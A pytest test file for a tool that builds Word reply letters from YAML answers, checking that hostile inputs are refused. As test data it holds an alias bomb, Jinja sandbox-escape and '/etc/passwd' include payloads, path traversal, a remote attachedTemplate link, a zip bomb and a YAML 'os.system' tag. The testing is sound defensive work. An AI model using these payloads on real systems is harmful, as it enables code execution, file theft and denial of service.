"""Hostile inputs are refused quickly, with a message, in bounded memory, reaching nothing outside."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from inquirygen.yamlfile import parse_yaml_text

from .conftest import ROOT, edit_template, write_answer

HEADER = """\
inquiry: {date: 2025-09-15, subject: Radwege}
recipient: {address: [Fraktion]}
letter: {date: 2025-10-06, signatory: {name: Erika Muster}}
"""


def billion_laughs(levels: int = 9) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_quickly_in_bounded_memory():
    tracemalloc.start()
    started = time.monotonic()
    problems = []
    parse_yaml_text(Path("bombe.yaml"), billion_laughs(), problems)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [p.message for p in problems] == [
        "the file is too large or repeats itself too often (more than 100,000 values)"]
    assert elapsed < 5
    assert peak < 100 * 2**20


@pytest.mark.parametrize("text, message", [
    ("a: " + "[" * 5000 + "]" * 5000 + "\n",
     ("bombe.yaml: the file nests lists and mappings too deeply (answer files need about five "
      "levels, at most 40)")),
    ("".join("  " * depth + f"k{depth}:\n" for depth in range(60)),
     ("bombe.yaml:42: the file nests lists and mappings too deeply (answer files need about five "
      "levels, at most 40)")),
])
def test_deep_nesting_is_refused_with_a_message(cli, tmp_path, text, message):
    write_answer(tmp_path, "bombe.yaml", text)
    result = cli("check", "bombe.yaml", cwd=tmp_path)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == message


def test_huge_file_is_refused_before_it_is_read(cli, tmp_path):
    write_answer(tmp_path, "riesig.yaml", HEADER + "# " + "x" * (6 * 2**20) + "\n")
    result = cli("check", "riesig.yaml", cwd=tmp_path)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[:2] == [
        "riesig.yaml: the file is too large (6.0 MiB; at most 5 MiB)",
        "    hint: split the inquiry, or move long texts into snippets"]


@pytest.mark.parametrize("expression, message", [
    ('{% include "/etc/passwd" %}', "'{% include %}' cannot be used in answers"),
    ('{% extends "/etc/passwd" %}', "'{% extends %}' cannot be used in answers"),
    ('{% import "os" as os %}', "'{% import %}' cannot be used in answers"),
    ('{% from "os" import system %}', "'{% from … import %}' cannot be used in answers"),
    ('{{ self.__init__ }}', "the text tries to reach inside the program"),
    ('{{ "".__class__.__mro__[1].__subclasses__() }}', "the text tries to reach inside the program"),
    ('{{ ref.__self__.workspace }}', "the text tries to reach inside the program"),
    ('{{ snippet("../../../etc/passwd") }}', "unknown snippet '../../../etc/passwd'"),
    ('{{ snippet("/etc/passwd") }}', "unknown snippet '/etc/passwd'"),
])
def test_sandbox_escapes_and_file_access_are_refused(cli, tmp_path, expression, message):
    write_answer(tmp_path, "angriff.yaml", HEADER + f"questions:\n  - question: Q?\n    response: |\n"
                                                    f"      Antwort {expression}\n")
    result = cli("build", "angriff.yaml", cwd=tmp_path)
    assert result.exit_code == 1
    assert result.stderr.startswith("angriff.yaml:")
    assert message in result.stderr
    assert "root:" not in result.output and "Traceback" not in result.output


def test_snippets_and_phrases_cannot_include_files(cli, tmp_path):
    (tmp_path / "answers" / "snippets").mkdir(parents=True)
    (tmp_path / "answers" / "snippets" / "boese.md").write_text('{% include "/etc/passwd" %}\n',
                                                                 encoding="utf-8")
    write_answer(tmp_path, "a.yaml", HEADER + 'questions:\n  - question: Q?\n    response: |\n'
                                              '      {{ snippet("boese") }}\n')
    result = cli("build", "a.yaml", cwd=tmp_path)
    assert "answers/snippets/boese.md:1: '{% include %}' cannot be used in snippets" in result.stderr
    (tmp_path / "inquirygen.yaml").write_text("phrases:\n  closing: '{% include \"/etc/passwd\" %}'\n",
                                              encoding="utf-8")
    result = cli("build", "a.yaml", cwd=tmp_path)
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "inquirygen.yaml:2:12: '{% include %}' cannot be used in a phrase\n")


def test_paths_cannot_leave_the_workspace(cli, tmp_path):
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "inquirygen.yaml").write_text(
        "paths:\n  output: ../draussen\n  snippets: /etc\n", encoding="utf-8")
    write_answer(workspace, "a.yaml", HEADER + "questions:\n  - question: Q?\n    response: A.\n")
    result = cli("build", "a.yaml", cwd=workspace)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == "inquirygen.yaml:2:11: '../draussen' lies outside the " \
                                            "workspace ."
    assert "inquirygen.yaml:3:13: '/etc' lies outside the workspace ." in result.stderr
    # Named on the command line, a place outside is the user's choice.
    (workspace / "inquirygen.yaml").unlink()
    ok = cli("build", "a.yaml", "-o", str(tmp_path / "draussen" / "a.docx"), cwd=workspace)
    assert ok.exit_code == 0, ok.stderr


def test_snippet_linking_outside_the_workspace_is_refused(cli, tmp_path):
    workspace = tmp_path / "ws"
    (workspace / "answers" / "snippets").mkdir(parents=True)
    secret = tmp_path / "geheim.md"
    secret.write_text("Geheimer Text.\n", encoding="utf-8")
    (workspace / "answers" / "snippets" / "link.md").symlink_to(secret)
    write_answer(workspace, "a.yaml", HEADER + 'questions:\n  - question: Q?\n    response: |\n'
                                               '      {{ snippet("link") }}\n')
    result = cli("build", "a.yaml", cwd=workspace)
    assert result.exit_code == 1
    assert "answers/snippets/link.md: snippet 'link' links to a file outside the workspace; " \
           "refused" in result.stderr
    assert "Geheimer" not in result.output


def test_template_that_loads_from_outside_is_refused(example_workspace, cli):
    template = example_workspace / "templates" / "answer_letter.docx"
    edit_template(template, {"</Relationships>": (
        '<Relationship Id="rIdBoese" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://boese.example/vorlage.dotm" '
        'TargetMode="External"/></Relationships>')}, part="word/_rels/document.xml.rels")
    result = cli("build", "2025-09-15.yaml", cwd=example_workspace)
    assert result.exit_code == 1
    assert result.stderr == (
        "templates/answer_letter.docx: loads 'http://boese.example/vorlage.dotm' from outside the "
        "document (attachedTemplate); refused, since Word would fetch it when the letter is opened. "
        "Save the template again without it.\n"
        "Error: 1 problem found; 1 file not built\n")


def test_zip_bomb_template_is_refused_without_unpacking(example_workspace, cli):
    template = example_workspace / "templates" / "answer_letter.docx"
    buffer = io.BytesIO(template.read_bytes())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/bombe.bin", b"\0" * (150 * 2**20))
        parts = len(archive.namelist())
    template.write_bytes(buffer.getvalue())
    assert template.stat().st_size < 2**20  # small on disk, 150 MiB unpacked
    tracemalloc.start()
    result = cli("build", "2025-09-15.yaml", cwd=example_workspace)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.exit_code == 1
    assert result.stderr.startswith(f"templates/answer_letter.docx: unpacks to 150 MiB in {parts} parts, "
                                    "more than a letter template can need; refused\n")
    assert peak < 50 * 2**20


def test_custom_tags_are_refused(cli, tmp_path):
    write_answer(tmp_path, "tag.yaml", HEADER.replace("subject: Radwege",
                                                      "subject: !!python/object/apply:os.system [ls]"))
    result = cli("check", "tag.yaml", cwd=tmp_path)
    assert result.exit_code == 1
    assert "custom YAML tag '!!python/object/apply:os.system' is not allowed" in result.stderr


def test_repository_examples_stay_small():
    for path in (ROOT / "answers").rglob("*.yaml"):
        assert path.stat().st_size < 64 * 1024


def test_text_that_looks_like_a_jinja_comment_stays_in_the_letter(cli, tmp_path):
    write_answer(tmp_path, "kommentar.yaml", HEADER + "questions:\n  - question: Q?\n"
                                                      "    response: |\n"
                                                      "      Siehe Anlage {# 3 #} und Vermerk.\n")
    assert cli("build", "kommentar.yaml", cwd=tmp_path).exit_code == 0
    from .docx_text import letter_text

    assert "Siehe Anlage {# 3 #} und Vermerk." in letter_text(tmp_path / "out" / "kommentar.docx")
